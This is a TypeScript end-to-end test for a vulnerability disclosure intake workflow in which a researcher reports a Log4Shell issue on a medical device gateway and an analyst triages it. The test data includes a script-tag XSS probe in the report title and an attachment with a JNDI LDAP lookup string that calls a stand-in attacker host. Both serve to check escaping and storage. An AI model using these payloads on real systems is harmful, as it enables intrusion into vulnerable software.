import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startE2e, type E2eSession } from '../support/e2e.js';
import { startMailSink, type MailSink } from '../../src/modules/notifications/test-receivers.js';
import type { TestVigil } from '../support/vigil.js';

/**
 * Issue 8's intake path through the real browser, on the demo data: a researcher, not signed
 * in, reports a vulnerability to Acme Medical through the public form (a <script> in the title,
 * one attachment) and gets a case reference; the demo analyst finds the case in the case list
 * (the title shown as text, the script never run), acknowledges it — the acknowledgement mail
 * arrives at a local SMTP server this test starts, with the title escaped in its HTML part —
 * links the demo Log4Shell finding on the CardioWatch 4.6.0 gateway and moves the case to triaged.
 */
const TITLE = '<script>window.__cvdXss = 1</script>Gateway logs HL7 fields unescaped';
const REPORTER = 'researcher@lab.example';
const ATTACHMENT = Buffer.from('GET /hl7 HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://attacker.example/a}\r\n\r\n');

describe('coordinated disclosure intake', () => {
  let e2e: E2eSession;
  let tv: TestVigil;
  let mail: MailSink;
  let base: string;
  let page: Page;
  let analyst = { email: '', password: '' };
  let caseId = '';

  beforeAll(async () => {
    mail = await startMailSink();
    e2e = await startE2e('cvd', { config: { smtp: { url: mail.url, from: 'Acme PSIRT <psirt@acme.example>' } }, demo: true, viewport: { width: 1440, height: 900 } });
    ({ tv, base, page } = e2e);
    analyst = e2e.demo!.users.find((u) => u.email === 'analyst@acme.example')!;
  });

  afterAll(async () => {
    await e2e?.close();
    await mail?.close();
  });

  const screenshotOnFailure = (name: string) => e2e.screenshotOnFailure(name);

  it('a researcher reports through the public form without an account and gets the case reference', async () => {
    screenshotOnFailure('report');
    await page.goto(`${base}/report/acme-medical`);
    await page.getByRole('heading', { level: 1, name: 'Report a vulnerability to Acme Medical Devices' }).waitFor();
    // The organization has no intake key in the demo: the encrypted path says so instead of a form.
    await page.getByText('Acme Medical Devices has not published an encryption key; please use the form above.').waitFor();
    const form = page.getByRole('form', { name: 'Vulnerability report' });
    await form.getByRole('textbox', { name: 'Title' }).fill(TITLE);
    await form.getByRole('textbox', { name: 'Description' }).fill('The CardioWatch 4.6.0 gateway logs the MSH-3 field with log4j; a JNDI lookup string there makes it connect out.');
    await form.getByRole('textbox', { name: 'Product and version' }).fill('CardioWatch 4.6.0');
    await form.getByRole('textbox', { name: 'Your name' }).fill('Dana Researcher');
    await form.getByRole('textbox', { name: 'Your e-mail' }).fill(REPORTER);
    await form.locator('input[type=file]').setInputFiles({ name: 'request.txt', mimeType: 'text/plain', buffer: ATTACHMENT });
    await form.getByRole('button', { name: 'Send report' }).click();
    caseId = (await page.getByTestId('case-reference').textContent()) ?? '';
    expect(caseId).toMatch(/^[0-9a-f-]{36}$/);

    const row = await tv.db.selectFrom('cvd_cases').select(['title', 'state', 'reporter_email', 'source']).where('id', '=', caseId).executeTakeFirstOrThrow();
    expect(row).toEqual({ title: TITLE, state: 'received', reporter_email: REPORTER, source: 'form' });
    const attachment = await tv.db.selectFrom('cvd_attachments').select(['file_name', 'content']).where('case_id', '=', caseId).executeTakeFirstOrThrow();
    expect(attachment.file_name).toBe('request.txt');
    expect(Buffer.from(attachment.content).equals(ATTACHMENT)).toBe(true);
  });

  it('the analyst finds the case in the list, with the title shown as text', async () => {
    screenshotOnFailure('list');
    await page.goto(`${base}/disclosure`);
    await page.getByLabel('E-mail').fill(analyst.email);
    await page.getByLabel('Password', { exact: true }).fill(analyst.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { level: 1, name: 'Disclosure (CVD)' }).waitFor();
    const table = page.getByRole('table', { name: 'CVD cases' });
    await table.getByRole('link', { name: TITLE, exact: true }).waitFor();
    // The demo's own triaged case is listed too; the filter narrows to the new report.
    await page.getByRole('searchbox', { name: 'Search' }).fill('HL7 fields unescaped');
    await table.getByRole('link').first().filter({ hasText: 'HL7 fields unescaped' }).waitFor();
    expect(await page.evaluate(() => (window as unknown as { __cvdXss?: number }).__cvdXss)).toBeUndefined();
    await table.getByRole('link', { name: TITLE, exact: true }).click();
    await page.getByRole('heading', { level: 1, name: TITLE, exact: true }).waitFor();
    await page.getByRole('region', { name: 'Clocks' }).getByTestId('clock-acknowledge').filter({ hasText: 'Due' }).waitFor();
    await page.getByRole('region', { name: 'Report' }).getByRole('link', { name: 'request.txt' }).waitFor();
  });

  it('acknowledges the report: the mail arrives with the title escaped and the case is acknowledged', async () => {
    screenshotOnFailure('acknowledge');
    const thread = page.getByRole('region', { name: 'Reporter thread' });
    await thread.getByRole('textbox', { name: 'Message to the reporter' }).fill('We reproduced the lookup on a 4.6.0 test unit.');
    await thread.getByRole('button', { name: 'Send acknowledgement' }).click();
    const [message] = await mail.waitFor(1);
    expect(message!.to && !Array.isArray(message!.to) ? message!.to.value[0]!.address : null).toBe(REPORTER);
    expect(message!.subject).toBe(`[Acme Medical Devices] We received your vulnerability report (${caseId.slice(0, 8)})`);
    expect(message!.text).toContain(`Thank you for your report "${TITLE}"`);
    expect(message!.text).toContain('We reproduced the lookup on a 4.6.0 test unit.');
    expect(message!.html).toContain('&lt;script&gt;window.__cvdXss = 1&lt;/script&gt;');
    expect(message!.html).not.toContain('<script>');
    await page.getByRole('region', { name: 'Clocks' }).getByTestId('clock-acknowledge').filter({ hasText: 'Met' }).waitFor();
    await thread.getByText(`to ${REPORTER}`, { exact: false }).waitFor();
    await page.getByRole('button', { name: 'Move to triaged' }).waitFor();
  });

  it('links the demo Log4Shell finding and moves the case to triaged', async () => {
    screenshotOnFailure('triage');
    const links = page.getByRole('region', { name: 'Links' });
    await links.getByRole('textbox', { name: 'Finding' }).fill('CVE-2021-44228');
    await links.getByRole('button', { name: 'Find' }).click();
    await links.getByRole('button', { name: 'Link CVE-2021-44228 in log4j-core 2.14.1 (CardioWatch bedside monitor 4.6.0)' }).click();
    await links.getByRole('table', { name: 'Linked records' }).getByRole('link', { name: 'CVE-2021-44228 in log4j-core 2.14.1' }).waitFor();
    await page.getByRole('button', { name: 'Move to triaged' }).click();
    await page.getByRole('region', { name: 'State timeline' }).getByText('Triaged').waitFor();
    await page.getByRole('button', { name: 'Move to remediation' }).waitFor();

    const row = await tv.db.selectFrom('cvd_cases').select(['state', 'acknowledged_at', 'triaged_at']).where('id', '=', caseId).executeTakeFirstOrThrow();
    expect(row.state).toBe('triaged');
    expect(row.acknowledged_at).not.toBeNull();
    expect(row.triaged_at).not.toBeNull();
    const linked = await tv.db
      .selectFrom('cvd_case_links as l')
      .innerJoin('findings as f', 'f.id', 'l.target_id')
      .innerJoin('releases as r', 'r.id', 'f.release_id')
      .select(['f.vuln_id', 'f.component_version', 'r.version'])
      .where('l.case_id', '=', caseId)
      .execute();
    expect(linked).toEqual([{ vuln_id: 'CVE-2021-44228', component_version: '2.14.1', version: '4.6.0' }]);
    const events = await tv.db.selectFrom('cvd_case_events').select('kind').where('case_id', '=', caseId).orderBy('at').orderBy('id').execute();
    expect(events.map((e) => e.kind)).toEqual(['received', 'message', 'transition', 'link', 'transition']);
    expect(e2e.pageErrors).toEqual([]);
  });
});
